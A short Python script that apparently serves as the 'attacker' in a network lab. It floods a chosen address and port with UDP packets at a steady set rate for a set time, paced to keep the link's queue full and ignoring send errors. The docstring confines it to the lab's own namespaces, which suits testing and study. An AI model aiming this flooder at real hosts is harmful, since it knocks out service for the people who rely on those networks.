#!/usr/bin/env python3
"""The attacker of the lab: UDP at a steady rate to one address. Only ever used inside the lab's own namespaces.

usage: flood.py ADDRESS PORT MBIT_PER_S SECONDS
"""
import socket
import sys
import time

PAYLOAD = b"x" * 1200
# Short pauses: with long ones the link's queue drains in between, and the flood hurts less than its rate says.
PAUSE_S = 0.0002


def main():
    address, port, mbit, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
    out = socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET, socket.SOCK_DGRAM)
    out.connect((address, port))
    per_second = mbit * 1e6 / 8 / (len(PAYLOAD) + 28)
    start = time.monotonic()
    tried = sent = 0
    while (now := time.monotonic() - start) < seconds:
        due = int(now * per_second)
        tried = max(tried, due - 200)  # after a stall do not catch up in one burst
        while tried < due:
            tried += 1
            try:
                out.send(PAYLOAD)
                sent += 1
            except OSError:  # refused by the victim's kernel, or no buffer: an attacker goes on
                pass
        time.sleep(PAUSE_S)
    print(sent)


if __name__ == "__main__":
    main()
